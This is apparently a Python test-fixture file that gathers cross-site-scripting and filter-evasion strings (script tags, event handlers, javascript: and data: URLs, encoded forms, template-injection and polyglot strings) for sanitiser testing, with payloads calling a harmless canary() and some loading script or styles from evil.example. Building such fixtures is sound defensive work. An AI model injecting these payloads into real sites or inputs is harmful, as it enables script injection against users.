"""Texts that became scripts elsewhere, by the way they take (OWASP's cheat sheets on cross-site
scripting and on getting round filters name these ways), and the Big List of Naughty Strings.

Each calls canary(), or alert(), where it gets to run.
"""

import json

from tests import vendored

MARKUP = (
    "<script>canary()</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script>canary()//",
    "</script><script>canary()</script>",
    "</title></textarea></style></noscript><script>canary()</script>",
    "<<script>canary();//<</script>",
    "<scr<script>ipt>canary()</scr</script>ipt>",
    "<scr\x00ipt>canary()</scr\x00ipt>".replace("\x00", "\u200b"),
    "<script/x>canary()</script>",
    "<script\x0c>canary()</script>",
    "<!--><script>canary()</script>-->",
    "<![CDATA[<script>canary()</script>]]>",
    "<template><script>canary()</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=canary()>'>",
    "<plaintext><script>canary()",
)
HANDLERS = (
    "<img src=x onerror=canary()>",
    "<IMG SRC=x ONERROR=canary()>",
    "<img/src/onerror=canary()>",
    "<img src=x onerror='canary()'",
    '<img src="x` `<script>canary()</script>"` `>',
    "<svg onload=canary()>",
    "<svg/onload=canary()//",
    "<svg><script>canary()</script></svg>",
    "<svg><animate onbegin=canary() attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:canary()><text y=20>press</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=canary()></table></mtext></math>",
    "<body onload=canary()>",
    "<input autofocus onfocus=canary()>",
    "<select autofocus onfocus=canary()>",
    "<details open ontoggle=canary()>press</details>",
    "<video><source onerror=canary()></video>",
    "<audio src=x onerror=canary()>",
    "<marquee onstart=canary()>roll</marquee>",
    "<div popover id=p onbeforetoggle=canary()>p</div><button popovertarget=p>press</button>",
    "<xss onpointerrawupdate=canary() style='position:fixed;inset:0'>",
    "<a onmouseover=canary()>over</a>",
)
ATTRIBUTES = (
    '" onfocus=canary() autofocus x="',
    "' onfocus=canary() autofocus x='",
    '"><img src=x onerror=canary()>',
    "'><img src=x onerror=canary()>",
    "` onmouseover=canary() `",
    '" style="position:fixed;inset:0;z-index:9999;background:red" x="',
    "javascript:canary()",
    "JaVaScRiPt:canary()",
    "java\tscript:canary()",
    "\x01javascript:canary()",
    " javascript:canary()",
    "javascript://evil.example/%0acanary()",
    "vbscript:canary()",
    "data:text/html,<script>canary()</script>",
    "data:text/html;base64,PHNjcmlwdD5jYW5hcnkoKTwvc2NyaXB0Pg==",
    "blob:https://evil.example/1",
    "//evil.example/x",
    "\\\\evil.example\\x",
    "https:evil.example",
    "https://bank.example@evil.example/",
    'https://evil.example/" onmouseover="canary()',
    "https://evil.example/<img src=x onerror=canary()>",
    "http://evil.example/'-canary()-'",
    "mailto:a@b.example?subject=<script>canary()</script>",
    "<a href=javascript:canary()>press</a>",
    "<iframe src=javascript:canary()></iframe>",
    "<iframe srcdoc='<script>parent.canary()</script>'></iframe>",
    "<form action=javascript:canary()><button>press</button></form>",
    "<button formaction=javascript:canary() form=x>press</button>",
    "<object data=javascript:canary()></object>",
    "<embed src=data:text/html,canary()>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{background:url(//evil.example/x)}</style>",
    "[press](javascript:canary())",
    '![x](x"onerror="canary())',
    "<https://evil.example/> [a]: javascript:canary()",
)
ENCODED = (
    "&lt;script&gt;canary()&lt;/script&gt;",
    "&#60;script&#62;canary()&#60;/script&#62;",
    "&#x3c;img src=x onerror=canary()&#x3e;",
    "%3Cscript%3Ecanary()%3C/script%3E",
    "\\u003cscript\\u003ecanary()\\u003c/script\\u003e",
    "\\x3cscript\\x3ecanary()\\x3c/script\\x3e",
    "+ADw-script+AD4-canary()+ADw-/script+AD4-",
    "\uff1cscript\uff1ecanary()\uff1c/script\uff1e",
    "\u02c2script\u02c3canary()\u02c2/script\u02c3",
    "<\u017fcript>canary()</\u017fcript>",
)
CODE = (
    "${canary()}",
    "`${canary()}`",
    "{{constructor.constructor('canary()')()}}",
    "{{7*7}} #{7*7} <%= 7*7 %> ${{7*7}}",
    "'-canary()-'",
    "\\'-canary()//",
    "');canary();//",
    "</script>'\"--></style></script><svg onload=canary()>",
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=canary() )//%0D%0A%0d%0a//</stYle/</titLe/"
    "</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=canary()//>\\x3e",
    "__proto__",
    "constructor",
    "toString",
    "hasOwnProperty",
)
LAYOUT = (
    "W" * 500,
    "\u0628" * 300,
    "\u5b57" * 500,
    "\U0001f469\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466" * 40,
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324" * 30,
    "\ufdfd" * 40,
    "a\n" * 200 + "b",
    "\u202eevil\u202c \u2066isolated\u2069 \u2067left open",
    "https://example.org/" + "x" * 400,
    "\u0bb8\u0bcd\u0bb0\u0bc0" * 60,
    "-" * 400,
    "\u00ad".join("hyphen" * 40),
    "a\u00a0" * 200 + "b",
)
OURS = (*MARKUP, *HANDLERS, *ATTRIBUTES, *ENCODED, *CODE, *LAYOUT)


def naughty() -> list[str]:
    found: list[str] = json.loads(vendored.text("blns.json"))
    return found


def everything() -> list[str]:
    return [*OURS, *naughty()]
